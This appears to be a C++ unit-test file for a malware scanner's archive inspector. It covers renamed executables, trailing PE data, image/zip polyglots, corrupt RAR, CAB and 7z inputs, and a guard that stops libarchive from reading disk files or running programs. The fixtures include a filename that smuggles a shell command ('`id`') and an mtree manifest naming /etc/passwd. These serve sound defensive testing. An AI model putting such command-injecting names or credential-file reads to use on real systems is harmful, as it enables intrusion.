  central_name.name = "invoice.exe";
  std::string z2 = zip_local(local_name);
  std::string cd2 = zip_central(central_name, 0);
  const auto off2 = static_cast<std::uint32_t>(z2.size());
  z2 += cd2 + zip_end(1, static_cast<std::uint32_t>(cd2.size()), off2);
  Scan run2;
  run2.archive(z2, "m2.zip");
  EXPECT_TRUE(run2.symbol("ARCHIVE_NAME_MISMATCH", "1")) << run2.dump();

  // A clean hand-built zip has no mismatch.
  std::string z3 = zip_local(shown_part);
  std::string cd3 = zip_central(shown_part, 0);
  const auto off3 = static_cast<std::uint32_t>(z3.size());
  z3 += cd3 + zip_end(1, static_cast<std::uint32_t>(cd3.size()), off3);
  Scan run3;
  run3.archive(z3, "ok.zip");
  EXPECT_FALSE(run3.symbol_anywhere("ARCHIVE_NAME_MISMATCH")) << run3.dump();
  EXPECT_FALSE(run3.symbol_anywhere("ARCHIVE_CORRUPT")) << run3.dump();
}

TEST(InspectArchive, TrailingData) {
  const std::string tail = tiny_pe();
  struct Case {
    std::string label, bytes;
  };
  const std::vector<Case> cases = {
      {"zip", write_archive("zip", {{"a.txt", "hello"}})},
      {"tar", write_archive("ustar", {{"a.txt", "hello"}})},
      {"tar.gz", write_archive("ustar", {{"a.txt", "hello"}}, {{"gzip"}})},
      {"gz", write_archive("raw", {{"a.txt", "hello"}}, {{"gzip"}})},
      {"7z", write_archive("7zip", {{"a.txt", "hello"}})},
      {"cpio", write_archive("newc", {{"a.txt", "hello"}})},
  };
  for (const Case& c : cases) {
    Scan run;
    run.archive(c.bytes + tail, "a." + c.label);
    SCOPED_TRACE(c.label + "\n" + run.dump());
    EXPECT_TRUE(run.symbol("ARCHIVE_TRAILING_DATA", "1"));
    EXPECT_TRUE(run.symbol("FILE_DANGEROUS_TYPE", "1#trailing"));
    Scan zero_pad;
    zero_pad.archive(c.bytes + std::string(4096, '\0'), "a." + c.label);
    EXPECT_FALSE(zero_pad.symbol_anywhere("ARCHIVE_TRAILING_DATA")) << zero_pad.dump();
  }
  // Two zips concatenated: both the streaming and the central reading are covered.
  const std::string first = write_archive("zip", {{"first.txt", kMarker}});
  const std::string second = write_archive("zip", {{"second.txt", tiny_pe()}});
  Scan run;
  run.archive(first + second, "cat.zip");
  EXPECT_TRUE(run.symbol("ARCHIVE_TRAILING_DATA", "1")) << run.dump();
  EXPECT_TRUE(run.symbol("FILE_DANGEROUS_TYPE", "1/second.txt")) << run.dump();
  EXPECT_TRUE(run.marker("1/first.txt")) << run.dump();
}

TEST(FindEmbeddedArchive, Polyglots) {
  const std::string zip = write_archive("zip", {{"payload.txt", kMarker}});
  const std::string sz = write_archive("7zip", {{"payload.txt", kMarker}});
  const std::string rar = rar4_stored("payload.txt", kMarker);
  EXPECT_EQ(bi::find_embedded_archive(kPng + zip), kPng.size());
  EXPECT_EQ(bi::find_embedded_archive(kPng + sz), kPng.size());
  EXPECT_EQ(bi::find_embedded_archive(kPng + rar), kPng.size());
  EXPECT_EQ(bi::find_embedded_archive(zip), 0u);
  EXPECT_EQ(bi::find_embedded_archive(kPng), std::string_view::npos);
  EXPECT_EQ(bi::find_embedded_archive(""), std::string_view::npos);
  // Signatures alone are not archives.
  EXPECT_EQ(bi::find_embedded_archive(kPng + "PK\x05\x06 and 7z\xBC\xAF\x27\x1C and Rar!\x1a\x07"),
            std::string_view::npos);
  std::string fake_eocd = kPng + zip_end(1, 46, 0);
  EXPECT_EQ(bi::find_embedded_archive(fake_eocd), std::string_view::npos);

  // The appended zip, handed to inspect_archive as the sub-view the dispatch makes.
  const std::string poly = kPng + zip;
  const std::size_t off = bi::find_embedded_archive(poly);
  ASSERT_NE(off, std::string_view::npos);
  Scan run;
  run.archive(std::string_view(poly).substr(off), "x");
  EXPECT_TRUE(run.marker("1/payload.txt")) << run.dump();
}

// Through the whole chain: an image with a zip appended.
TEST(InspectArchive, PolyglotThroughDispatch) {
  const std::string poly = kPng + write_archive("zip", {{"payload.txt", kMarker}});
  Scan run;
  run.blob(poly, "photo.png");
  EXPECT_TRUE(run.marker("1#appended/payload.txt")) << run.dump();
}

TEST(InspectArchive, HandBuiltRarAndCab) {
  {
    Scan run;
    run.archive(rar4_stored("docs/payload.txt", kMarker), "x.rar");
    EXPECT_TRUE(run.marker("1/docs/payload.txt")) << run.dump();
    EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_CORRUPT")) << run.dump();
  }
  {
    Scan run;
    run.archive(rar4_stored("'`id`'.tar", "x"), "x.rar");
    EXPECT_TRUE(run.threat("EXPLOIT_SHELL_IN_FILENAME", "1/'`id`'.tar")) << run.dump();
  }
  {
    Scan run;
    run.archive(rar5_stored("docs/payload5.txt", kMarker), "x.rar");
    EXPECT_TRUE(run.marker("1/docs/payload5.txt")) << run.dump();
    EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_CORRUPT")) << run.dump();
    EXPECT_NE(bi::find_embedded_archive(kPng + rar5_stored("a", "b")), std::string_view::npos);
  }
  {
    Scan run;
    run.archive(cab_stored("payload.txt", kMarker), "x.cab");
    EXPECT_TRUE(run.marker("1/payload.txt")) << run.dump();
    EXPECT_FALSE(run.symbol_anywhere("ARCHIVE_CORRUPT")) << run.dump();
  }
}

TEST(InspectArchive, CorruptInputsAreNamedNotFatal) {
  std::string noise(50000, '\0');
  std::uint32_t x = 7;
  for (char& c : noise) c = static_cast<char>((x = x * 1103515245 + 12345) >> 24);
  const std::string zip = write_archive("zip", {{"a.txt", std::string(5000, 'a')}});
  const std::string tgz = write_archive("pax", {{"a.txt", noise}}, {{"gzip"}});
  const std::string sz = write_archive("7zip", {{"a.txt", std::string(5000, 'a')}});
  const std::vector<std::string> inputs = {
      zip.substr(0, zip.size() / 2),
      tgz.substr(0, tgz.size() / 2),
      sz.substr(0, 40),
      std::string("PK\x03\x04", 4) + std::string(100, '\xff'),
      std::string("\x1f\x8b\x08\0", 4) + std::string(100, 'x'),
      std::string("7z\xBC\xAF\x27\x1C", 6) + std::string(100, '\0'),
      std::string("Rar!\x1a\x07\x00", 7) + std::string(50, 'z'),
      std::string("MSCF\0\0\0\0", 8) + std::string(60, '\x01'),
  };
  for (std::size_t i = 0; i < inputs.size(); ++i) {
    Scan run;
    run.archive(inputs[i], "x");
    EXPECT_TRUE(run.symbol_anywhere("ARCHIVE_CORRUPT")) << "input " << i << "\n" << run.dump();
  }
  // Bytes that are no archive at all: nothing to say, nothing to crash on.
  Scan run;
  run.archive("just some text", "x");
  EXPECT_TRUE(run.results().symbols.empty()) << run.dump();
}

TEST(InspectArchive, DepthLimitAtEntry) {
  bulwark::InspectLimits l;
  bi::Inspector insp(engines(), l);
  const std::string zip = write_archive("zip", {{"a.txt", kMarker}});
  bi::inspect_archive(bi::Blob{zip, "1/deep", {}, "", l.max_depth}, insp);
  ASSERT_EQ(insp.results().symbols.size(), 1u);
  EXPECT_EQ(insp.results().symbols[0].symbol, "INSPECT_LIMIT_DEPTH");
}

// Promise: nothing outside the blob is read and nothing is run. libarchive's mtree reader
// opens the files a manifest names on the local disk, and its lzop/grzip/lrzip (and any
// filter built without its library) run external programs: none of them may be enabled.
TEST(InspectArchive, NoDiskNoPrograms) {
  std::ifstream in(std::string(BULWARK_SOURCE_DIR) + "/src/inspect/archive.cc");
  std::stringstream ss;
  ss << in.rdbuf();
  const std::string src = ss.str();
  ASSERT_FALSE(src.empty());
  for (const char* banned : {"archive_read_support_format_all(", "archive_read_support_filter_all(",
                             "archive_read_support_format_mtree(", "support_filter_program(",
                             "archive_read_open_filename", "archive_read_open_fd",
                             "archive_read_disk", "archive_write_disk", "fopen(", "open("})
    EXPECT_EQ(src.find(banned), std::string::npos) << banned;

  Scan run;
  run.archive("#mtree\n./etc/hostname type=file\n./etc/passwd type=file size=100\n", "x.mtree");
  EXPECT_EQ(run.results().blobs, 0u) << run.dump();
  for (const char* magic : {"LRZI", "\x89LZO\0\r\n\x1a\n", "GRZipII\0\x02\x04:)"}) {
    Scan r2;
    r2.archive(std::string(magic) + std::string(64, '\x01'), "x");
    EXPECT_EQ(r2.results().blobs, 0u) << magic << r2.dump();
  }
}

}  // namespace
